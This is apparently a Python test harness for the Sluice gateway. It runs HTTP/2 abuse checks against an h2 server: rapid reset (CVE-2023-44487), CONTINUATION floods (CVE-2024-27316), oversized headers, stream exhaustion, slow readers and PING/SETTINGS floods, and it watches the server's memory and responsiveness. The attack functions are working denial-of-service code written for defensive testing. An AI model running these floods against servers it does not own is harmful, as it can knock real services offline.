"""HTTP/2 abuse checks against an h2 server: Sluice's data listener, or any other.

Run:  .venv/bin/python Tests/python/h2_safety_check.py --sluice .build/debug/sluice [--sluice-http2 YAML]
      .venv/bin/python Tests/python/h2_safety_check.py 127.0.0.1:8080 [--pid PID] [--tls [--cafile ca.pem]]
      [--only rapid-reset,max-streams] [--rss-bound-mb 64] [--path /v1/models] [--slow-path /big]
Needs the `h2` package (hpack, hyperframe; the client connection is h2peer.py) and, for --sluice,
the `openssl` command.

--sluice BIN starts Sluice itself (h2lab.py) twice, h2c on the plain port and then TLS with a
throwaway CA, in front of a tiny HTTP/1.1 backend (--path /upload reads the whole request body
before it answers; --slow-path /big is 8 MB), and runs every check against each with --pid set to
it; --sluice-http2 '{ max_resets: 1000000 }' adds an http2 section (to see a check fail).
Each check opens its own connection (h2c with prior knowledge, or TLS with ALPN h2), attacks, and
then a GET --path on a fresh connection must be answered with a status < 500. With --pid the
server's VmRSS is sampled every 50 ms; a peak more than --rss-bound-mb above the value before fails.
  rapid-reset         HEADERS(GET, END_STREAM) + RST_STREAM(CANCEL) as fast as possible
                      (CVE-2023-44487): GOAWAY or close before --resets pairs / --seconds.
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATIONs of 1 KB of literal header
                      fields: GOAWAY or close before --flood-mb MB / --seconds (CVE-2024-27316).
  continuation-empty  the same with empty CONTINUATIONs: before --continuations frames / --seconds.
  big-headers         a header list over 64 KB (80 x 1 KB): 400/413/431, RST_STREAM, GOAWAY or close.
  max-streams         SETTINGS_MAX_CONCURRENT_STREAMS (N) advertised and <= --max-streams-bound; N
                      POSTs without END_STREAM, then 10 more (past h2's own limit): the 10 get
                      RST_STREAM(REFUSED_STREAM or PROTOCOL_ERROR), or GOAWAY/close. Inconclusive (fails)
                      if the first N are reset at once: --path must read the request body.
  slow-reader         --slow-conns connections with SETTINGS_INITIAL_WINDOW_SIZE=0 and up to 100 GETs of
                      --slow-path each, no WINDOW_UPDATE, held --hold s once the response heads are in:
                      another connection is served meanwhile, and no DATA beyond the zero window arrives.
  ping-flood          --control-frames PINGs from a client that never reads (4 KB receive buffer):
  settings-flood      the same with SETTINGS. Pass: GOAWAY/close, or a normal request on another
                      connection is answered during the flood.
Prints PASS/FAIL per check (frames sent, time to GOAWAY, error code, RSS before/peak/after) and
exits 0 when every check passed, 1 otherwise.
"""
import argparse
import os
import shutil
import sys
import tempfile
import threading
import time

import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

import h2lab
from h2peer import IO_TIMEOUT, Peer, code_name, normal_request, request_headers

CHECKS = ["rapid-reset", "continuation-flood", "continuation-empty", "big-headers", "max-streams",
          "slow-reader", "ping-flood", "settings-flood"]


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            return next((int(line.split()[1]) for line in f if line.startswith("VmRSS:")), None)
    except OSError:
        return None


# ---- the attacks: each returns (passed, figures) ----

def rapid_reset(args):
    p = Peer(args)
    p.wait_settings()
    sent, start = 0, time.monotonic()
    headers = request_headers(args, "GET", args.path)
    while sent < args.resets and time.monotonic() - start < args.seconds and not p.over():
        for _ in range(50):
            sid = p.h2.get_next_available_stream_id()
            p.h2.send_headers(sid, headers, end_stream=True)
            p.h2.reset_stream(sid, ErrorCodes.CANCEL)
            sent += 1
        if p.flush() != "ok":
            break
        p.pump(0)
    elapsed = time.monotonic() - start
    p.pump(1.0, until=p.over)
    p.close()
    return p.over(), f"{sent} HEADERS+RST_STREAM pairs in {elapsed:.2f}s, {len(p.statuses)} responses; {p.outcome()}"


def continuation(args, payload):
    p = Peer(args)
    p.wait_settings()
    head = HeadersFrame(1, data=p.h2.encoder.encode(request_headers(args, "POST", args.path)))
    p.send(head.serialize())
    if payload:
        fields = [hpack.NeverIndexedHeaderTuple(f"x-flood-{i}", "f" * 90) for i in range(10)]
        frame = ContinuationFrame(1, data=hpack.Encoder().encode(fields, huffman=False)).serialize()
        batch, per, limit = frame * 64, 64, args.flood_mb * 1_000_000 // len(frame)
    else:
        frame = ContinuationFrame(1).serialize()
        batch, per, limit = frame * 1000, 1000, args.continuations
    sent, start, blocked = 0, time.monotonic(), False
    while sent < limit and time.monotonic() - start < args.seconds and not p.over():
        state = p.send(batch, timeout=2.0)
        if state == "blocked":
            blocked = True
            break
        sent += per if state == "ok" else 0
        p.pump(0)
    elapsed = time.monotonic() - start
    p.pump(max(0.5, args.seconds - elapsed), until=p.over)
    figures = (f"{sent} CONTINUATION frames ({sent * len(frame) / 1e6:.2f} MB) in "
               f"{elapsed:.2f}s{', then the server stopped reading' if blocked else ''}; {p.outcome()}"
               + ("" if p.over() else f" {time.monotonic() - start:.1f}s after the first"))
    p.close()
    return p.over(), figures


def big_headers(args):
    p = Peer(args)
    p.wait_settings()
    extra = [(f"x-big-{i:03d}", "b" * 1000) for i in range(80)]
    p.h2.send_headers(1, request_headers(args, "GET", args.path, extra), end_stream=True)
    p.flush()
    p.pump(IO_TIMEOUT, until=lambda: 1 in p.statuses or 1 in p.resets or p.over())
    status, reset = p.statuses.get(1), p.resets.get(1)
    p.close()
    if status is not None:
        return status in (400, 413, 431), f"~83 KB header list answered with status {status}"
    if reset is not None:
        return True, f"~83 KB header list: RST_STREAM({code_name(reset)})"
    return p.over(), f"~83 KB header list: {p.outcome()}"


def max_streams(args):
    p = Peer(args)
    p.wait_settings()
    advertised = p.settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
    limit = min(advertised if advertised is not None else 1 << 31, args.max_streams_bound)
    headers = request_headers(args, "POST", args.path, [("content-type", "application/json")])

    def open_streams(sids):
        p.send(b"".join(HeadersFrame(sid, data=p.h2.encoder.encode(headers), flags=["END_HEADERS"])
                        .serialize() for sid in sids))

    first, extra = [1 + 2 * i for i in range(limit)], [1 + 2 * i for i in range(limit, limit + 10)]
    open_streams(first)
    p.pump(0.5)
    freed = sum(1 for s in first if s in p.resets)
    if not p.over() and not freed:
        open_streams(extra)
        p.pump(3.0, until=lambda: p.over() or all(s in p.resets for s in extra))
    refused = [s for s in extra if p.resets.get(s) in (ErrorCodes.REFUSED_STREAM, ErrorCodes.PROTOCOL_ERROR)]
    answered = [s for s in extra if s in p.statuses]
    figures = (f"advertised {advertised}; {limit} unfinished POSTs, then 10 more: {len(refused)}/10 refused, "
               f"{len(answered)} answered; {p.outcome()}")
    p.close()
    if advertised is None or advertised > args.max_streams_bound:
        return False, f"SETTINGS_MAX_CONCURRENT_STREAMS {advertised} not <= {args.max_streams_bound}; " + figures
    if freed and not p.over():
        return False, (f"inconclusive: the server reset {freed} of the first {limit} streams without waiting "
                       "for their bodies; point --path at a route that waits for the request body")
    return (len(refused) == 10 and not answered) or p.over(), figures


def slow_reader(args):
    peers, requested = [], 0
    try:
        for _ in range(args.slow_conns):
            p = Peer(args, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0})
            peers.append(p)
            p.wait_settings()
            n = min(p.settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, 100), 100)
            for i in range(n):
                p.h2.send_headers(1 + 2 * i, request_headers(args, "GET", args.slow_path), end_stream=True)
            p.flush()
            requested += n
        def heads():
            return sum(len(p.statuses) for p in peers)

        start = time.monotonic()  # the hold starts once every response head is in (within 2 x IO_TIMEOUT)
        for _ in range(int(IO_TIMEOUT * 20)):
            if heads() >= requested or time.monotonic() - start > 2 * IO_TIMEOUT or all(p.over() for p in peers):
                break
            for p in peers:
                p.pump(0.1 / len(peers))
        setup, start, served, detail = time.monotonic() - start, time.monotonic(), None, ""
        for _ in range(int(args.hold * 10) + 1):
            for p in peers:
                p.pump(0.1 / len(peers))
            if served is None and time.monotonic() - start > args.hold / 2:
                served, detail = normal_request(args)
            if time.monotonic() - start > args.hold:
                break
        data = sum(p.data_in for p in peers)
        figures = (f"{len(peers)} connections x window 0, {requested} GETs {args.slow_path}, {heads()} response "
                   f"heads in {setup:.1f}s, held {args.hold}s: {data} DATA bytes, "
                   f"{sum(1 for p in peers if p.over())} connections closed/GOAWAY; another connection meanwhile: {detail}")
        return bool(served) and data == 0, figures
    finally:
        for p in peers:
            p.close()


def control_flood(args, kind):
    p = Peer(args, rcvbuf=4096)
    p.wait_settings()
    if kind == "PING":
        frame = PingFrame(0, opaque_data=b"h2safety").serialize()
    else:
        frame = SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    batch, sent, start, blocked = frame * 1000, 0, time.monotonic(), False
    while sent < args.control_frames and time.monotonic() - start < args.seconds:
        state = p.send(batch, timeout=2.0, read=False)
        if state != "ok":
            blocked = state == "blocked"
            break
        sent += 1000
    elapsed = time.monotonic() - start
    served, detail = (False, "not tried, the flood connection is gone") if p.closed else normal_request(args)
    p.pump(3.0, until=p.over)
    figures = (f"{sent} {kind} frames in {elapsed:.2f}s without reading"
               f"{', then the server stopped reading' if blocked else ''}; {p.outcome()}; "
               f"another connection during the flood: {detail}")
    p.close()
    return p.over() or served, figures


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": lambda a: continuation(a, True),
    "continuation-empty": lambda a: continuation(a, False),
    "big-headers": big_headers,
    "max-streams": max_streams,
    "slow-reader": slow_reader,
    "ping-flood": lambda a: control_flood(a, "PING"),
    "settings-flood": lambda a: control_flood(a, "SETTINGS"),
}


def run(name, args):
    """One check, with VmRSS sampled every 50 ms under --pid; prints its line, returns passed."""
    before, peak, stop = rss_kb(args.pid) if args.pid else None, [0], threading.Event()

    def sample():
        for _ in range(100000):
            peak[0] = max(peak[0], rss_kb(args.pid) or 0)
            if stop.wait(0.05):
                return

    sampler = threading.Thread(target=sample, daemon=True)
    if args.pid:
        sampler.start()
    try:
        passed, figures = ATTACKS[name](args)
    except Exception as e:
        passed, figures = False, f"the check itself failed: {e.__class__.__name__}: {e}"
    time.sleep(0.5)
    stop.set()
    reasons, memory = [] if passed else ["not defended"], ""
    if args.pid:
        sampler.join(2)
        after = rss_kb(args.pid)
        if before is None or after is None:
            reasons.append(f"no /proc/{args.pid}/status (server died?)")
        else:
            memory = f"; RSS {before // 1024}->{peak[0] // 1024}->{after // 1024} MB (before/peak/after)"
            if peak[0] - before > args.rss_bound_mb * 1024:
                reasons.append(f"RSS grew {(peak[0] - before) // 1024} MB > {args.rss_bound_mb} MB")
    alive, detail = normal_request(args)
    if not alive:
        reasons.append(f"a fresh normal request afterwards failed: {detail}")
    print(f"{'PASS' if not reasons else 'FAIL'} {name}: {figures}{memory}; after: {detail}"
          + (f" -- {'; '.join(reasons)}" if reasons else ""), flush=True)
    return not reasons


def run_all(args):
    alive, detail = normal_request(args)
    if not alive:
        print(f"FAIL preflight: a normal h2 GET {args.path} is not answered: {detail}", flush=True)
        return [False]
    return [run(name, args) for name in args.names]


def run_sluice(args):
    """Sluice on h2c, then on TLS, in front of h2lab's backend; all checks against each."""
    d = tempfile.mkdtemp(prefix="h2-safety-")
    backend, results = None, []
    try:
        h2lab.make_pki(d)
        backend, port = h2lab.start_backend(own_process=True)
        extra = f"http2: {args.sluice_http2}" if args.sluice_http2 else ""
        gw = h2lab.Sluice(os.path.abspath(args.sluice), d, port, extra=extra)
        for tls in (False, True):
            print(f"-- sluice: {'TLS (ALPN h2)' if tls else 'h2c'} listener" + (f", {extra}" if extra else ""), flush=True)
            try:
                failed = gw.start(tls)
                if failed:
                    print(f"FAIL sluice starts: {failed}", flush=True)
                    results.append(False)
                    continue
                args.host, args.port, args.pid = "127.0.0.1", gw.port, gw.process.pid
                args.tls, args.cafile = tls, f"{d}/ca.pem" if tls else None
                got = run_all(args)
                results += got
                if not all(got):  # what Sluice said about it
                    with open(gw.log.name) as f:
                        print("   sluice log tail:\n   " + "   ".join(f.readlines()[-6:]), end="", flush=True)
            finally:
                gw.stop()
    finally:
        if backend:
            backend.shutdown()
        shutil.rmtree(d, ignore_errors=True)
    return results


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("target", nargs="?", help="HOST:PORT of the h2 listener (loopback)")
    parser.add_argument("--sluice", help="start this sluice binary (h2c, then TLS) and check it")
    parser.add_argument("--sluice-http2", help="with --sluice: the config's http2 section, e.g. '{ max_resets: 1000000 }'")
    parser.add_argument("--pid", type=int, help="server process id, for VmRSS")
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2 instead of h2c")
    parser.add_argument("--cafile", help="verify the server certificate against this CA")
    parser.add_argument("--only", help="comma-separated subset of: " + ",".join(CHECKS))
    parser.add_argument("--path", help="default /v1/models, or /upload with --sluice")
    parser.add_argument("--slow-path", help="large response for slow-reader (default --path, or /big with --sluice)")
    parser.add_argument("--rss-bound-mb", type=int, default=64)
    parser.add_argument("--seconds", type=float, default=10.0, help="time bound of each flood")
    parser.add_argument("--resets", type=int, default=10000)
    parser.add_argument("--flood-mb", type=int, default=10)
    parser.add_argument("--continuations", type=int, default=100000)
    parser.add_argument("--max-streams-bound", type=int, default=1000)
    parser.add_argument("--slow-conns", type=int, default=8)
    parser.add_argument("--hold", type=float, default=3.0)
    parser.add_argument("--control-frames", type=int, default=1000000)
    args = parser.parse_args()
    if bool(args.target) == bool(args.sluice):
        parser.error("give either HOST:PORT or --sluice BIN")
    args.names = args.only.split(",") if args.only else CHECKS
    unknown = [n for n in args.names if n not in ATTACKS]
    if unknown:
        parser.error(f"unknown checks {unknown}")
    args.path = args.path or ("/upload" if args.sluice else "/v1/models")
    args.slow_path = args.slow_path or ("/big" if args.sluice else args.path)
    if args.sluice:
        results = run_sluice(args)
    else:
        args.host, _, port = args.target.rpartition(":")
        args.port = int(port)
        results = run_all(args)
    print(f"{sum(results)}/{len(results)} checks passed")
    return 0 if results and all(results) else 1


if __name__ == "__main__":
    sys.exit(main())
